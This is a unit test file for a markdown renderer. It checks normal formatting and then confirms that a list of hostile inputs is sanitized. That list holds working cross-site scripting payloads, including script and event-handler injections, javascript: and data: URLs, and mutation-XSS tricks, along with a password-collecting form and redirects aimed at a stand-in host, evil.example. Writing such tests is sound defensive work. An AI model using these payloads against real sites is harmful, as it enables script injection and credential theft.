import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render-markdown.ts';

describe('the text of an article', () => {
  it('becomes headings below the page’s own, lists, tables and links', () => {
    const html = renderMarkdown(
      '# One\n\n## Two\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n[Book](/calendar "Soon") **now**',
    );
    expect(html).toContain('<h2>One</h2>');
    expect(html).toContain('<h2>Two</h2>');
    expect(html).toContain('<li>a</li>');
    expect(html).toContain('<th scope="col">x</th>');
    expect(html).toContain('<a href="/calendar" title="Soon">Book</a> <strong>now</strong>');
  });

  it('asks search engines not to follow links to other sites', () => {
    expect(renderMarkdown('[there](https://example.com/a?b=1&c=2)')).toContain(
      '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener nofollow">there</a>',
    );
  });

  it('loads pictures late and keeps what they show', () => {
    expect(renderMarkdown('![A cracked slab](/articles/slab.svg)')).toContain(
      '<img src="/articles/slab.svg" alt="A cracked slab" loading="lazy" />',
    );
  });

  it('keeps characters that mean something in HTML as text', () => {
    expect(renderMarkdown('5 < 6 & `<b>`')).toBe('<p>5 &lt; 6 &amp; <code>&lt;b&gt;</code></p>\n');
  });
});

/** Ways in which text has got scripts into pages. None of them may leave anything that runs. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<style>body{display:none}</style><p style="position:fixed">x</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="x" onclick="alert(1)" id="root" class="site-menu">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '</div></main><h1>Not ours</h1>',
  '[x](https://example.com"onmouseover="alert(1))',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
];

describe.each(hostile)('hostile text: %s', (text) => {
  it('leaves nothing that runs, leads astray or breaks out', () => {
    const html = renderMarkdown(text);
    const tags = html.match(/<[^>]*>/g) ?? [];
    for (const tag of tags) {
      expect(tag).toMatch(/^<\/?(p|br|a|img|h2|code|table|tbody|tr|td|em|strong)( |>|\/)/);
      // Inside of quotes everything is text.
      expect(tag.replaceAll(/"[^"]*"/g, '""')).not.toMatch(
        /\s(on\w+|style|class|id|srcset|formaction)\s*=/i,
      );
      expect(tag).not.toMatch(/(href|src)="(?!https?:\/\/|\/[^/]|x")/i);
    }
    expect(html).not.toMatch(/<script|javascript:/i);
  });
});
